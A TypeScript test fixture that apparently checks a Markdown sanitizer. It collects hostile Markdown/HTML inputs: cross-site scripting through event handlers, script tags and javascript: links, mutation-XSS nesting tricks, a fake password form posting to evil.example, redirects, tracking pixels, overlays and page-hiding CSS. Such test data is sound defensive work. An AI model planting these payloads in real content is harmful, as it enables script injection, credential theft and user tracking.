/** Markdown of an attacker, each with the words that have to be shown. */
const attacks: readonly string[] = [
  '<a class="scrim" href="https://evil.example/cover">cover1</a>',
  '<a href="https://evil.example/id" id="main" name="location">cover2</a>',
  'Sign in: <input class="in" name="password" placeholder="Password"> cover3 <form action="https://evil.example/form"><button>Send</button></form>',
  '<div class="scrim" style="position:fixed;inset:0">cover4</div>',
  '<svg><style><img src=x onerror="window.acted = 1"></style></svg> cover5',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.acted=1&gt;">cover6',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">cover7',
  '<img src="https://tracker.example/p.gif" onerror="window.acted = 1">cover8 ![cover9](https://tracker.example/q.gif)',
  '[cover10](javascript:window.acted=1) [cover11](/api/auth/me) [cover12](//evil.example/x) [cover13](data:text/html,x)',
  '[cover14][ref] <javascript:alert(1)> [cover15](javascript&colon;alert(1))\n\n[ref]: javascript:window.acted=1 "title"',
  '```language-x scrim\ncover16\n```',
  '```js" class="scrim\ncover17\n```',
  '~~~scrim btn main\ncover18\n~~~',
  '| a | b |\n|:-:|---|\n| <b class="scrim">cover19</b> | <br onclick="window.acted=1">cover20<br>line |',
  '- [ ] cover21\n- [x] cover22 <input type=checkbox onclick="window.acted=1">',
  'Word[^1] cover23\n\n[^1]: <a id="fn1">cover24</a>',
  '<!-- comment --> cover25 <b>cover26</b> <script>window.acted = 1</script>',
  `${'- '.repeat(1)}${Array.from({ length: 60 }, (_, depth) => `${' '.repeat(depth * 2)}- <i class="scrim">deep${depth}</i>`).join('\n')}`,
  '<details open><summary onclick="window.acted=1">cover27</summary>\n\ncover28\n\n</details>',
  '[https://bank.example/login](https://evil.example/login) cover29',
  '<iframe srcdoc="<script>top.acted = 1</script>"></iframe><object data="https://tracker.example/o"></object>cover30',
  '<dialog open class="dialog">cover31</dialog> <style>*{display:none}</style> cover32',
]

export const hostileMarkdown: string = attacks.join('\n\n')

/** What of it is no markup, and has to be shown. */
export const shownWords: readonly string[] = Array.from({ length: 32 }, (_, index) => `cover${index + 1}`)
